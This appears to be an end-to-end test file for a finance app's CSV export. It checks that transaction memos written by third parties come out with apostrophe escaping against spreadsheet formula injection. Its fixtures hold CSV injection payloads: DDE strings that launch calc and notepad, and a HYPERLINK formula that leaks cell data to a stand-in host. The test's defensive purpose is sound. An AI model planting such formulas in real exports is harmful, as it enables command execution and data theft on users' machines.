import { expect, test } from '../support/test';
import { AccountsPage } from '../page-models/accounts-page';
import { newGoogleAccount } from '../page-models/hosted-sign-in-page';
import { apiTransactions, personToday, shiftDay } from '../page-models/transactions-api';
import { TransactionsPage } from '../page-models/transactions-page';
import { newTransactionsAtTheBank, signedInUserId } from '../support/accounts-api';
import { csvRecords, formulaCellsWithSemicolons } from '../support/csv-file';
import { signUp } from '../support/sign-up';

const BANK = { id: 'ins_109508', name: 'First Platypus Bank' };

/**
 * Names that third parties wrote at the bank (payment memos), each with its amount and what the export makes of it:
 * an apostrophe wherever a spreadsheet could start a formula (at the start, after a `;`, a tab or a line break).
 */
const MEMOS: Array<{ name: string; amount: number; exported: string }> = [
  { name: "ZELLE FROM JOHN;=cmd|'/C calc'!A0;x", amount: 25, exported: "ZELLE FROM JOHN;'=cmd|'/C calc'!A0;x" },
  {
    name: '=HYPERLINK("http://x.test/?"&A1,"Refund")',
    amount: -40.1,
    exported: '\'=HYPERLINK("http://x.test/?"&A1,"Refund")',
  },
  { name: '+49 30 REMITTANCE', amount: 12.34, exported: "'+49 30 REMITTANCE" },
  { name: '-CASHBACK, KIOSK 12', amount: -7.5, exported: "'-CASHBACK, KIOSK 12" },
  { name: "@SUM(9+9)*cmd|' /C notepad'!Z0", amount: 3.21, exported: "'@SUM(9+9)*cmd|' /C notepad'!Z0" },
  { name: '\tTAB MEMO;\t=1+2', amount: 1.11, exported: "'\tTAB MEMO;'\t'=1+2" },
  { name: '\rCR MEMO\n-2+3', amount: 2.22, exported: "'\rCR MEMO\n'-2+3" },
  { name: 'P2P MEMO ;"=2+5"; "ok"', amount: -3.33, exported: 'P2P MEMO ;\'"=2+5"; "ok"' },
];

// A person of their own: the bank-made names must reach no other spec's person.
test('Export CSV of names third parties wrote at the bank: read with `,` each comes back neutralised, with `;` no cell is a formula', async ({
  page,
}) => {
  await signUp(page, newGoogleAccount('Cece', 'Sheets'));
  const accounts = new AccountsPage(page);
  await accounts.linkInstitution(BANK.name);
  await accounts.waitForFirstSync(BANK.name);
  const yesterday = shiftDay(await personToday(page), { days: -1 });
  await newTransactionsAtTheBank(
    await signedInUserId(page),
    BANK.id,
    MEMOS.map(({ name, amount }) => ({ date: yesterday, amount, description: name })),
  );
  const names = MEMOS.map((memo) => memo.name);
  const arrived = async () => (await apiTransactions(page)).filter((t) => names.includes(t.name ?? ''));
  await expect.poll(async () => (await arrived()).length, { timeout: 30_000 }).toBe(MEMOS.length);
  // The bank recognised no merchant in them: the screen shows the names as they were written.
  expect((await arrived()).map((t) => t.merchant_name)).toEqual(MEMOS.map(() => null));

  const transactions = new TransactionsPage(page);
  await transactions.goto();
  await transactions.waitForRows();
  const { count } = await transactions.totals();
  const csv = await transactions.exportCsv();

  // With `,` (RFC 4180): a header and one record a transaction, eight fields each; the names neutralised, the
  // amounts plain numbers.
  const { records, errors } = csvRecords(csv);
  expect(errors).toEqual([]);
  expect(records[0]!.join(',')).toBe('Institution,Account,Date,Description,Amount,Category,Notes,Pending');
  expect(records).toHaveLength(count + 1);
  expect(records.filter((record) => record.length !== 8)).toEqual([]);
  const exported = new Map(MEMOS.map((memo) => [memo.exported, memo.amount]));
  const bankMade = records.filter((record) => exported.has(record[3]!));
  expect(new Map(bankMade.map((record) => [record[3]!, Number(record[4])]))).toEqual(exported);
  expect(bankMade.map((record) => record[2])).toEqual(MEMOS.map(() => yesterday));

  // With `;`, as Excel in a German or French locale splits the file: no cell is a formula.
  expect(formulaCellsWithSemicolons(csv)).toEqual([]);
});
